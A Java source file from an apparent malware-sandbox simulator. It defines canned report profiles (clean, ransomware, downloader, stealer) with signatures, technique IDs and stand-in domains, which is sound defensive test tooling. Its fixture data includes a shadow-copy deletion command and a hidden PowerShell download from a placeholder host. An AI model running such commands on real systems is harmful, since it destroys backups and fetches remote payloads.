package dev.peekaboo.simulator;

import java.util.List;
import java.util.Optional;

/** The kinds of sample there are; each tells the same story every time. */
enum Profile {
    CLEAN(
            new Story(
                    0.6,
                    Optional.empty(),
                    List.of(
                            new Signature(
                                    "antidebug_setunhandledexceptionfilter",
                                    "SetUnhandledExceptionFilter detected (possible anti-debug)",
                                    1,
                                    "anti-debug",
                                    List.of())),
                    List.of("sample.exe"),
                    List.of(),
                    List.of("ctldl.windowsupdate.com"),
                    List.of(),
                    true,
                    true)),
    RANSOMWARE(
            new Story(
                    9.4,
                    Optional.of("SunCrypt"),
                    List.of(
                            new Signature(
                                    "stealth_window",
                                    "A process created a hidden window",
                                    2,
                                    "stealth",
                                    List.of("T1564")),
                            new Signature(
                                    "deletes_shadow_copies",
                                    "Attempts to delete or modify volume shadow copies",
                                    3,
                                    "ransomware",
                                    List.of("T1490")),
                            new Signature(
                                    "ransomware_file_modifications",
                                    "Appends a new file extension or content to 214 files"
                                            + " indicative of a ransomware file encryption process",
                                    3,
                                    "ransomware",
                                    List.of("T1486"))),
                    List.of("sample.exe", "vssadmin.exe"),
                    List.of("vssadmin.exe delete shadows /all /quiet"),
                    List.of("pay.ransom.example"),
                    List.of(),
                    true,
                    true)),
    DOWNLOADER(
            new Story(
                    7.2,
                    Optional.empty(),
                    List.of(
                            new Signature(
                                    "suspicious_process",
                                    "Creates a suspicious process",
                                    2,
                                    "packer",
                                    List.of()),
                            new Signature(
                                    "powershell_download",
                                    "PowerShell command downloads and runs a file",
                                    3,
                                    "downloader",
                                    List.of("T1105", "T1059.001"))),
                    List.of("winword.exe", "powershell.exe"),
                    List.of("powershell.exe -w hidden -c \"iwr http://load.example/a.exe\""),
                    List.of("load.example"),
                    List.of(),
                    true,
                    true)),
    STEALER(
            new Story(
                    8,
                    Optional.of("AgentTesla"),
                    List.of(
                            new Signature(
                                    "network_cnc_http",
                                    "HTTP traffic contains suspicious features",
                                    2,
                                    "network",
                                    List.of("T1071")),
                            new Signature(
                                    "infostealer_browser",
                                    "Steals private information from local Internet browsers",
                                    3,
                                    "infostealer",
                                    List.of("T1555.003"))),
                    List.of("sample.exe"),
                    List.of(),
                    List.of("mail.steal.example"),
                    List.of(),
                    true,
                    true)),
    /** What bench/fakecuckoo.c says of a sample marked EVILEVIL. */
    EVIL(
            new Story(
                    8.4,
                    Optional.empty(),
                    List.of(
                            new Signature(
                                    "suspicious_process",
                                    "Creates a suspicious process",
                                    3,
                                    "trojan",
                                    List.of())),
                    List.of("sample.exe", "cmd.exe"),
                    List.of("cmd.exe /c start sample.exe"),
                    List.of("example.org"),
                    List.of(),
                    true,
                    true));

    @SuppressWarnings("ImmutableEnumChecker") // it keeps no state
    private final Story story;

    Profile(Story story) {
        this.story = story;
    }

    Story story() {
        return story;
    }
}
